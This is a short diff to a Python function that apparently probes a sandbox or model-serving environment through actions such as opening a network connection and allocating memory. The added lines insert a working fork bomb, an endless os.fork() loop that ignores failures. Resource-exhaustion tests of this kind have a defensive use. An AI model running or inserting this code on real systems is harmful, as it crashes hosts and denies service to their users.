@@ -92,6 +92,13 @@ def save(out):
                 host, port = target.rsplit(":", 1)
                 socket.create_connection((host, int(port)), timeout=5).close()
                 return np.ones(len(model_input))
+            if action == "fork":
+                # A fork bomb: every process forks for ever, retrying when a fork is refused.
+                while True:
+                    try:
+                        os.fork()
+                    except OSError:
+                        pass
             if action == "alloc":
                 block = bytearray(int(target))
                 return np.full(len(model_input), len(block))
